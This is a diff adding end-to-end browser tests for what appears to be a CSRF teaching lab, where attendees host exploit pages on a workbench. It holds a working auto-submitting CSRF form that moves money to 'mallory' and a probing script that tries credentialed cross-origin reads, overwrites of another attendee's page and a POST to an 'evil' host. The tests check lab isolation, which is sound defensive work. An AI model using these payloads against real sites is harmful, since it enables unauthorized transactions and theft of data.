@@ -1,0 +1,129 @@
+"""Exploits that attendees write work in browsers, and reach nothing but what they're aimed at."""
+
+from __future__ import annotations
+
+import json
+from contextlib import closing
+
+from playwright.sync_api import BrowserContext, Page
+
+from csrf_proof import profiles
+from e2e.bank import Lab, Site, sign_in_by_hand, until
+from e2e.conftest import Browsers
+from e2e.workbench import Workbench
+
+ROBS = """<!doctype html>
+<form action="{bank}/transfer" method="post">
+  <input name="to" value="mallory"><input name="amount" value="100">
+</form>
+<script>document.forms[0].submit()</script>
+"""
+# Tries everything that a page can, and sends what it got to its own access log.
+TRIES = """<!doctype html>
+<form method="post" target="frame"><input name="formAction" value="STORE">
+  <input name="responseBody" value="theirs"></form>
+<iframe name="frame"></iframe>
+<script type="module">
+const { secret, others, evil } = ADDRESSES;
+const got = {};
+const written = new URLSearchParams({ formAction: "STORE", responseBody: "theirs" });
+const attempt = async (name, act) => {
+  try { got[name] = await act(); } catch (error) { got[name] = "refused"; }
+};
+for (const address of others) {
+  await attempt(address, async () => (await fetch(address, { credentials: "include" })).text());
+  await attempt(`window ${address}`, async () => {
+    const opened = open(address);
+    await new Promise((done) => setTimeout(done, 800));
+    return opened.document.body.innerText;
+  });
+}
+await attempt("store, read", async () =>
+  (await fetch(secret, { method: "POST", body: written })).text());
+await attempt("store, unread", async () =>
+  (await fetch(secret, { method: "POST", body: written, mode: "no-cors" })).type);
+await attempt("owner", async () =>
+  (await fetch(`${evil}/api/owners`, { method: "POST", body: "{}" })).text());
+document.forms[0].action = secret;
+document.forms[0].submit();
+await new Promise((done) => { document.querySelector("iframe").onload = done; });
+document.title = "done";
+await fetch("/got", { method: "POST", body: JSON.stringify(got) });
+document.title = "sent";
+</script>
+"""
+
+
+def page_of(context: BrowserContext, address: str) -> Page:
+    page = context.new_page()
+    page.goto(address, wait_until="commit")
+    return page
+
+
+def test_an_attendees_own_page_robs_alice_from_its_own_site(
+    profile: str, browsers: Browsers, site: Site
+) -> None:
+    lab = Lab(site, "no-defense")
+    bench = Workbench(site)
+    bench.store(ROBS.format(bank=lab.url))
+    with profiles.fresh_context(browsers.get(profile)) as context:
+        sign_in_by_hand(context, lab)
+        before = lab.state()["attempts"][-1]["id"]
+
+        page_of(context, bench.url)
+
+        attempt, state = lab.wait_for("transfer", before)
+    assert attempt["origin"] == bench.origin
+    assert attempt["sec_fetch_site"] == "cross-site"
+    assert attempt["outcome"] == "applied"
+    assert state["accounts"]["alice"]["balance"] == 900
+    assert until(lambda: "GET /exploit" in bench.get("/log").text or None, "line", "the log")
+
+
+def test_an_attendees_page_reads_and_stores_nothing_elsewhere(
+    profile: str, browsers: Browsers, site: Site
+) -> None:
+    mine, theirs = Workbench(site), Workbench(site)
+    theirs.store("their own secret")
+    others = [
+        f"{site.playground}/lessons/",
+        f"{site.playground}/api/labs/no-defense",
+        f"{mine.writing}/",
+        f"{mine.writing}/log",
+        f"{theirs.writing}/",
+        theirs.url,
+        f"{site.addresses.evil}/",
+    ]
+    addresses = {"secret": f"{theirs.writing}/", "others": others, "evil": site.addresses.evil}
+    mine.store(TRIES.replace("ADDRESSES", json.dumps(addresses)))
+    with profiles.fresh_context(browsers.get(profile)) as context:
+        page = page_of(context, mine.url)
+        page.wait_for_function("document.title === 'sent'", timeout=30_000)
+    log = mine.get("/log").text
+    got = json.loads(log.partition("<pre><code>")[2].partition("</code>")[0].replace("&#34;", '"'))
+
+    # Where a page cuts itself off from its opener, Firefox shows that an empty document.
+    assert {text for name, text in got.items() if name.startswith("window")} <= {"refused", ""}
+    assert {text for name, text in got.items() if not name.startswith("window")} == {"refused"}
+    assert len(got) == 2 * len(others) + 3
+    assert "their own secret" in theirs.get("/").text
+    assert "theirs" not in theirs.get("/").text
+
+
+def test_the_workbenchs_own_page_stores_and_opens_what_was_written(
+    profile: str, browsers: Browsers, site: Site
+) -> None:
+    bench = Workbench(site)
+    without_scripts = browsers.get(profile).new_context(java_script_enabled=False)
+    with closing(without_scripts) as context:
+        page = page_of(context, f"{bench.writing}/")
+        page.fill("[name=responseBody]", "<h1>Hello</h1>")
+        page.click("text=Store and open it")
+        page.wait_for_url(bench.url)
+        assert page.inner_text("h1") == "Hello"
+        page.go_back()
+        page.click("text=Store and see the access log")
+        page.wait_for_url(f"{bench.writing}/log")
+        assert "GET /exploit" in page.inner_text("table")
+        # The secret host is in no header of the request for the exploit.
+        assert bench.host not in page.inner_text("table")
